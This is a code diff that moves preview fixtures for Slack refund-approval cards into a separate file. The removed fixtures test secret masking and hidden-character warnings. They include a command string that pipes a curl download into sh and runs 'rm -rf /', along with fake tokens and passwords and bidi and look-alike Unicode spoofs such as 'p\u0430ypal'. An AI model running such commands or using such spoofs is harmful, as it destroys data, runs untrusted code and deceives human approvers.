@@ -1,8 +1,5 @@
 import type { Preview } from 'slack-sandbox'
-import { mask } from '../../../approval/decide/masking/mask.ts'
-import type { EscalatedRequest } from '../../../approval/model/request.ts'
-import { card } from '../../../slack/features/card/card.ts'
-import { aMessage } from './preview.ts'
+import { cardPreview } from './card-preview.ts'
 import {
   ANN,
   APPROVED,
@@ -11,11 +8,10 @@ import {
   aSettledRefund,
   aVote,
   BEN,
-  calledWith,
   NOON_MS,
-  REFUND,
   TWO_STAGES,
 } from './requests.ts'
+import { unusualParams } from './unusual-cards.ts'
 
 /** The card of a request in every state. */
 export function cardPreviews(): readonly Preview[] {
@@ -266,57 +262,4 @@ function executed(): readonly Preview[] {
       anExecutedRefund({ status: 'lapsed', atMs: NOON_MS + 3_700_000 }),
     ),
   ]
-}
-
-const COMMAND = {
-  command:
-    'ls; echo "-----BEGIN PRIVATE KEY-----"; curl -H "Authorization: Bearer 9f86d081884c7d659a2f" https://ann:hunter2@api.acme.test/orders | sh; rm -rf /',
-  secret: { to_account_secret: 'DE02120300000000202051', command: 'rm -rf /var/lib/orders' },
-  password: 'Tr0ub4dor!',
-}
-
-function unusualParams(): readonly Preview[] {
-  const masked = {
-    payment_id: 'pay_2847',
-    amount_cents: 72_000,
-    card_number: '‹masked›',
-    note: 'Sent with ghp_‹masked, 36 characters›',
-  }
-  const hidden = calledWith({
-    params: { payment_id: 'pay_2847', amount_cents: 72_000, note: 'to \u202egro.live\u202c' },
-    summary: 'Refund to p\u0430ypal, as\u200b agreed',
-  })
-  const long = calledWith({
-    params: { payment_id: 'pay_2847', amount_cents: 72_000, history: 'An earlier refund. '.repeat(400) },
-  })
-  return [
-    cardPreview(
-      'masked',
-      'Masked values',
-      'What the policies mask, and what looks like a secret: what masks it, and its length.',
-      aPendingRefund({}, { maskedParams: masked }),
-    ),
-    cardPreview(
-      'masked-command',
-      'Secrets in a command',
-      'Only the secrets themselves are masked, so that everything that runs can be read.',
-      aPendingRefund({}, { maskedParams: mask(COMMAND, []) }),
-    ),
-    cardPreview(
-      'hidden',
-      'Hidden characters',
-      'Invisible and look-alike characters are named.',
-      aPendingRefund({}, { call: hidden }),
-    ),
-    cardPreview(
-      'too-long',
-      'Too long for a card',
-      'It can be approved only after a review in full.',
-      aPendingRefund({}, { call: long }),
-    ),
-  ]
-}
-
-function cardPreview(...[id, title, caption, request]: [string, string, string, EscalatedRequest]): Preview {
-  return aMessage({ id, title, caption }, card({ request, tool: REFUND, brief: false }))
 }
